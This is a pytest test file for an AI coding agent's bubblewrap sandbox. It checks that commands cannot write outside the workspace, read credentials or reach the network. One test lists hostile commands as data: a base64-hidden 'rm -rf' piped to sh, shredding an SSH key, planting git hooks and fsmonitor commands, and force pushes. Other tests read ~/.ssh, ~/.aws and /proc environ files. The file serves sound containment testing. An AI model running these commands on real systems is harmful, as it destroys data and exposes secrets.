"""The OS sandbox (bubblewrap) around commands: real ``bwrap``, real files, real sockets.

Every test runs a real command through the one shell runner with a :class:`Sandbox` and checks
what happened on the host: a write that must not land did not, a file that must stay secret was
not printed, a listener that must not be reached counted no connection.
"""

from __future__ import annotations

import base64
import os
import shutil
import socket
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from kiso.tools.sandbox import Sandbox, SandboxPolicy, denial, probe
from kiso.tools.shell import CommandResult, run_command


def test_bubblewrap_is_here() -> None:
    """scripts/system-deps installs it; without it every test below fails, never skips."""
    assert probe() is None, probe()


SECRET = "s3cret-key-material"


@pytest.fixture
def box(tmp_path: Path) -> dict[str, Path]:
    """A workspace (a git repository), a home with credentials and dot files, a KISO_HOME and a
    directory outside the workspace, all real."""
    ws, home, kiso_home, outside = (tmp_path / n for n in ("ws", "home", "kiso", "outside"))
    for d in (ws, home / ".ssh", home / ".aws", kiso_home / "projects", outside / "keep"):
        d.mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(SECRET)
    (home / ".ssh" / "k7").write_text("key seven")
    (home / ".aws" / "credentials").write_text(SECRET)
    (home / ".bashrc").write_text("export PATH=$PATH\n")
    (home / ".netrc").write_text(f"machine x password {SECRET}\n")
    (kiso_home / "projects" / "log.jsonl").write_text(SECRET)
    (outside / "keep" / "data.txt").write_text("precious")
    git = ["git", "-c", "user.email=t@t", "-c", "user.name=t"]
    subprocess.run([*git, "init", "-q", str(ws)], check=True)
    (ws / "a.txt").write_text("a\n")
    subprocess.run([*git, "-C", str(ws), "add", "a.txt"], check=True)
    subprocess.run([*git, "-C", str(ws), "commit", "-qm", "a"], check=True)
    return {"ws": ws, "home": home, "kiso": kiso_home, "outside": outside}


def env_for(box: dict[str, Path]) -> dict[str, str]:
    return {
        "PATH": os.environ["PATH"],
        "HOME": str(box["home"]),
        "KISO_HOME": str(box["kiso"]),
        "LANG": "C.UTF-8",
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@t",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@t",
    }


def run(
    box: dict[str, Path], command: str, mode: str = "workspace-write", *, network: bool = False
) -> CommandResult:
    env = env_for(box)
    sandbox = Sandbox.for_workspace(SandboxPolicy(mode, network), box["ws"], environ=env)
    assert sandbox is not None and sandbox.available
    return run_command(command, cwd=box["ws"], env=env, timeout_ms=60_000, sandbox=sandbox)


def test_a_write_inside_the_workspace_works_and_outside_it_fails(box: dict[str, Path]) -> None:
    inside = run(box, "echo made > new.txt && mkdir -p sub && echo deep > sub/f && cat new.txt")
    assert inside.exit_code == 0, inside.output
    assert (box["ws"] / "new.txt").read_text() == "made\n"
    assert (box["ws"] / "sub" / "f").read_text() == "deep\n"
    for target in (box["outside"] / "x", box["home"] / "x", Path("/etc/kiso-sandbox-test")):
        out = run(box, f"echo no > {target}")
        assert out.exit_code != 0 and "Read-only file system" in out.output, out.output
        assert not target.exists()
    # a temporary directory is there, writable, and kept from one command to the next
    sandbox, env = _sandbox(box), env_for(box)
    for command, said in (('echo kept > "$TMPDIR/t"', ""), ('cat "$TMPDIR/t"', "kept")):
        out = run_command(command, cwd=box["ws"], env=env, timeout_ms=60_000, sandbox=sandbox)
        assert (out.exit_code, out.output.strip()) == (0, said), out.output


def test_credentials_cannot_be_read(box: dict[str, Path]) -> None:
    out = run(
        box,
        "cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; cat ~/.netrc; "
        "cat $KISO_HOME/projects/log.jsonl; ls -a ~/.ssh; grep -r s3cret ~ 2>/dev/null; true",
    )
    assert SECRET not in out.output
    assert "id_ed25519" not in out.output.replace("/.ssh/id_ed25519:", "")
    # the same reads without the sandbox show the secret: the test can see a leak
    plain = run_command("cat ~/.ssh/id_ed25519", cwd=box["ws"], env=env_for(box), timeout_ms=60_000)
    assert SECRET in plain.output


@pytest.fixture
def listener() -> Iterator[tuple[int, list[int]]]:
    """A real TCP listener on loopback that counts the connections it accepts."""
    server = socket.create_server(("127.0.0.1", 0))
    accepted: list[int] = []
    stop = threading.Event()

    def serve() -> None:
        server.settimeout(0.1)
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            accepted.append(1)
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join()
    server.close()


def test_the_network_is_cut_off_unless_allowed(
    box: dict[str, Path], listener: tuple[int, list[int]]
) -> None:
    port, accepted = listener
    probe_cmd = f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\""
    cut = run(box, probe_cmd)
    assert cut.exit_code != 0 and "Connection refused" in cut.output
    assert accepted == []
    assert denial(_sandbox(box), cut.exit_code, cut.output) is not None
    allowed = run(box, probe_cmd, network=True)
    assert allowed.exit_code == 0, allowed.output
    assert accepted == [1]  # the connection was accepted before the command could exit


def _sandbox(box: dict[str, Path]) -> Sandbox:
    made = Sandbox.for_workspace(SandboxPolicy(), box["ws"], environ=env_for(box))
    assert made is not None
    return made


def test_every_bypass_of_the_floor_is_contained(box: dict[str, Path]) -> None:
    """The commands that ran in bypass mode before the sandbox existed."""
    home, outside = box["home"], box["outside"]
    hidden = base64.b64encode(f"rm -rf {outside}/keep; echo pwned > {home}/.profile".encode())
    remote = outside / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    attacks = [
        f"echo {hidden.decode()} | base64 -d | sh",
        f"python3 -c \"import shutil; shutil.rmtree('{outside}/keep')\"",
        "x=.ssh; rm -rf ~/$x/k7",
        "shred -u ~/.ssh/k7",
        ": > ~/.bashrc",
        "echo 'touch /tmp/owned' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit",
        "git config core.hooksPath /tmp",
        f"git push --force {remote} HEAD:main",
        "git push --force https://example.com/x.git HEAD:main",
    ]
    for command in attacks:  # what they did is checked below, on the host
        run(box, command)
    assert (outside / "keep" / "data.txt").read_text() == "precious"
    assert not (home / ".profile").exists()
    assert (home / ".ssh" / "k7").read_text() == "key seven"
    assert (home / ".bashrc").read_text() == "export PATH=$PATH\n"
    assert not (box["ws"] / ".git" / "hooks" / "post-commit").exists()
    assert "hooksPath" not in (box["ws"] / ".git" / "config").read_text()
    refs = subprocess.run(
        ["git", "-C", str(remote), "show-ref"], capture_output=True, text=True, check=False
    )
    assert refs.stdout == ""  # nothing was pushed
    # ...while the work a coding agent does in its workspace still works, commits included
    work = run(box, "echo b >> a.txt && git commit -qam b && git log --oneline | wc -l")
    assert work.exit_code == 0, work.output
    assert work.output.split()[-1] == "2"


def test_read_only_mode_writes_nothing_anywhere(box: dict[str, Path]) -> None:
    out = run(box, "cat a.txt && echo x > a.txt", "read-only")
    assert out.exit_code != 0 and out.output.startswith("a\n")
    assert "Read-only file system" in out.output
    assert (box["ws"] / "a.txt").read_text() == "a\n"


def test_a_cancelled_sandboxed_command_leaves_no_process(box: dict[str, Path]) -> None:
    marker = box["ws"] / "started"
    env = env_for(box)
    sandbox = Sandbox.for_workspace(SandboxPolicy(), box["ws"], environ=env)
    assert sandbox is not None
    started = threading.Event()

    def cancelled() -> bool:
        if marker.exists():
            started.set()
        return started.is_set()

    out = run_command(
        "sleep 600 & echo $! > pids.tmp; sleep 600 & echo $! >> pids.tmp; "
        "mv pids.tmp pids; touch started; wait",
        cwd=box["ws"],
        env=env,
        timeout_ms=120_000,
        cancelled=cancelled,
        sandbox=sandbox,
    )
    assert out.cancelled
    pids = [int(p) for p in (box["ws"] / "pids").read_text().split()]
    assert len(pids) == 2  # the host's pids: no PID namespace (ADR 0025)
    alive = []
    for pid in pids:
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if state != "Z":
            alive.append(pid)
    assert alive == []


def test_a_result_says_when_the_sandbox_probably_stopped_a_command(box: dict[str, Path]) -> None:
    sandbox = _sandbox(box)
    out = run(box, f"echo x > {box['outside']}/f")
    assert denial(sandbox, out.exit_code, out.output) is not None
    assert denial(sandbox, 0, out.output) is None  # a command that succeeded was not stopped
    assert denial(sandbox, 1, "ordinary failure") is None


def test_a_subagent_worktree_inside_kiso_home_stays_usable(box: dict[str, Path]) -> None:
    """A delegated child works in $KISO_HOME/worktrees/<id>: the rest of KISO_HOME stays hidden."""
    tree = box["kiso"] / "worktrees" / "child"
    tree.mkdir(parents=True)
    env = env_for(box)
    sandbox = Sandbox.for_workspace(SandboxPolicy(), tree, environ=env)
    assert sandbox is not None
    out = run_command(
        f"echo ok > done && cat {box['kiso']}/projects/log.jsonl; ls {box['kiso']}",
        cwd=tree,
        env=env,
        timeout_ms=60_000,
        sandbox=sandbox,
    )
    assert (tree / "done").read_text() == "ok\n"
    assert SECRET not in out.output


def test_credentials_stay_hidden_when_the_workspace_is_the_home(box: dict[str, Path]) -> None:
    env = env_for(box)
    sandbox = Sandbox.for_workspace(SandboxPolicy(), box["home"], environ=env)
    assert sandbox is not None
    out = run_command(
        "cat ~/.ssh/id_ed25519; echo new > notes.txt",
        cwd=box["home"],
        env=env,
        timeout_ms=60_000,
        sandbox=sandbox,
    )
    assert SECRET not in out.output
    assert (box["home"] / "notes.txt").read_text() == "new\n"


def _git(*args: str) -> None:
    subprocess.run(["git", "-c", "user.email=t@t", "-c", "user.name=t", *args], check=True)


def test_a_planted_dot_git_file_opens_nothing(box: dict[str, Path], tmp_path: Path) -> None:
    """A `.git` file is believed only when git's records outside the workspace confirm it."""
    plain = tmp_path / "plain"  # not a repository: a command may write a .git file here
    plain.mkdir()
    target = box["outside"] / "escaped"
    env = env_for(box)
    for planted in (f"gitdir: {box['outside']}", "gitdir: /", "gitdir: fake"):
        (plain / ".git").write_text(planted + "\n")
        (plain / "fake").mkdir(exist_ok=True)
        (plain / "fake" / "commondir").write_text(str(box["outside"]))
        (plain / "fake" / "gitdir").write_text(str(plain / ".git"))
        sandbox = Sandbox.for_workspace(SandboxPolicy(), plain, environ=env)
        assert sandbox is not None
        out = run_command(f"touch {target}", cwd=plain, env=env, timeout_ms=60_000, sandbox=sandbox)
        assert out.exit_code != 0 and not target.exists(), (planted, out.output)


def test_a_real_linked_worktree_can_commit(box: dict[str, Path], tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    _git("-C", str(box["ws"]), "worktree", "add", "-q", "--detach", str(tree))
    env = env_for(box)
    sandbox = Sandbox.for_workspace(SandboxPolicy(), tree, environ=env)
    assert sandbox is not None
    out = run_command(
        "echo c >> a.txt && git commit -qam c && git log --oneline | wc -l",
        cwd=tree,
        env=env,
        timeout_ms=60_000,
        sandbox=sandbox,
    )
    assert out.exit_code == 0 and out.output.split()[-1] == "2", out.output
    hooks = box["ws"] / ".git" / "hooks" / "post-commit"
    planted = run_command(
        f"echo x > {hooks}", cwd=tree, env=env, timeout_ms=60_000, sandbox=sandbox
    )
    assert planted.exit_code != 0 and not hooks.exists()


def test_hooks_config_and_submodules_are_out_of_reach(box: dict[str, Path], tmp_path: Path) -> None:
    bare = tmp_path / "bare"  # no hooks/ at all: a command must not be able to create it
    _git("init", "-q", "--template=", str(bare))
    assert not (bare / ".git" / "hooks").exists()
    sub = tmp_path / "sub"
    _git("init", "-q", str(sub))
    (sub / "s.txt").write_text("s")
    _git("-C", str(sub), "add", "s.txt")
    _git("-C", str(sub), "commit", "-qm", "s")
    _git(
        "-C",
        str(box["ws"]),
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        str(sub),
        "sub",
    )
    env = env_for(box)
    for ws, command in (
        (bare, "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit"),
        (box["ws"], "git config -f .git/modules/sub/config core.fsmonitor 'touch /tmp/owned'"),
        (box["ws"], "echo x > .git/modules/sub/hooks/post-checkout"),
    ):
        sandbox = Sandbox.for_workspace(SandboxPolicy(), ws, environ=env)
        assert sandbox is not None
        out = run_command(command, cwd=ws, env=env, timeout_ms=60_000, sandbox=sandbox)
        assert out.exit_code != 0, (command, out.output)
    assert not (bare / ".git" / "hooks" / "pre-commit").exists()
    modules = box["ws"] / ".git" / "modules" / "sub"
    assert "fsmonitor" not in (modules / "config").read_text()
    assert not (modules / "hooks" / "post-checkout").exists()


def test_an_agent_socket_in_the_home_hides_only_the_socket(box: dict[str, Path]) -> None:
    tool = box["home"] / ".local" / "bin" / "mytool"
    tool.parent.mkdir(parents=True)
    tool.write_text("#!/bin/sh\necho mytool works\n")
    tool.chmod(0o755)
    sock = box["home"] / ".agent.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(sock))
    try:
        env = {**env_for(box), "SSH_AUTH_SOCK": str(sock)}
        sandbox = Sandbox.for_workspace(SandboxPolicy(), box["ws"], environ=env)
        assert sandbox is not None
        out = run_command(
            f"{tool}; test -S {sock} && echo reachable || echo hidden",
            cwd=box["ws"],
            env=env,
            timeout_ms=60_000,
            sandbox=sandbox,
        )
        assert out.output.splitlines() == ["mytool works", "hidden"], out.output
        kept = Sandbox.for_workspace(
            SandboxPolicy(), box["ws"], environ=env, reachable=["SSH_AUTH_SOCK"]
        )
        assert kept is not None
        out = run_command(
            f"test -S {sock} && echo reachable", cwd=box["ws"], env=env, timeout_ms=60_000,
            sandbox=kept,
        )  # fmt: skip
        assert out.output.strip() == "reachable"
    finally:
        server.close()


def test_a_kept_agent_socket_in_tmp_stays_reachable(box: dict[str, Path]) -> None:
    """ssh-agent's own place, /tmp/ssh-XXXX/agent.N: hidden with its directory, unless kept."""
    folder = Path(tempfile.mkdtemp(prefix="ssh-", dir="/tmp"))
    sock = folder / f"agent.{os.getpid()}"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(sock))
    try:
        env = {**env_for(box), "SSH_AUTH_SOCK": str(sock)}
        probe_cmd = f"test -S {sock} && echo reachable || echo hidden"
        for reachable, said in (((), "hidden"), (("SSH_AUTH_SOCK",), "reachable")):
            sandbox = Sandbox.for_workspace(
                SandboxPolicy(), box["ws"], environ=env, reachable=reachable
            )
            assert sandbox is not None
            out = run_command(probe_cmd, cwd=box["ws"], env=env, timeout_ms=60_000, sandbox=sandbox)
            assert out.output.strip() == said, (reachable, out.output)
    finally:
        server.close()
        shutil.rmtree(folder)


def test_the_sandboxing_process_keeps_its_environment_to_itself(box: dict[str, Path]) -> None:
    """A command sees the host's pids, so the process that sandboxes it (kiso, holding the
    model's key) makes itself non-dumpable: its /proc environ is out of the command's reach."""
    env = env_for(box)
    sandbox = Sandbox.for_workspace(SandboxPolicy(), box["ws"], environ=env)
    assert sandbox is not None
    me = os.getpid()
    out = run_command(
        f"echo $$; tr '\\0' '\\n' < /proc/{me}/environ | head -3; echo done",
        cwd=box["ws"],
        env=env,
        timeout_ms=60_000,
        sandbox=sandbox,
    )
    lines = out.output.splitlines()
    assert lines[-1] == "done" and "PATH=" not in out.output, out.output
    assert Path(f"/proc/{lines[0]}").exists() is False  # its pid is the host's (now gone)


def test_a_kiso_home_made_after_the_sandbox_is_hidden_too(box: dict[str, Path]) -> None:
    """On a first run $KISO_HOME does not exist yet when the sandbox is made."""
    late = box["outside"] / "late-home"
    env = {**env_for(box), "KISO_HOME": str(late)}
    sandbox = Sandbox.for_workspace(SandboxPolicy(), box["ws"], environ=env)
    assert sandbox is not None
    (late / "projects").mkdir(parents=True)
    (late / "projects" / "log.jsonl").write_text(SECRET)
    out = run_command(
        f"cat {late}/projects/log.jsonl", cwd=box["ws"], env=env, timeout_ms=60_000,
        sandbox=sandbox,
    )  # fmt: skip
    assert out.exit_code != 0 and SECRET not in out.output


def test_the_sandboxed_shell_leads_its_own_process_group(box: dict[str, Path]) -> None:
    """As unsandboxed: whoever records the shell's pid can signal its whole group by it."""
    sandbox = _sandbox(box)
    out = run_command(
        "echo $$ $(ps -o pgid= -p $$) $(ps -o sid= -p $$)",
        cwd=box["ws"],
        env=env_for(box),
        timeout_ms=60_000,
        sandbox=sandbox,
    )
    pid, pgid, sid = out.output.split()
    assert pid == pgid == sid, out.output
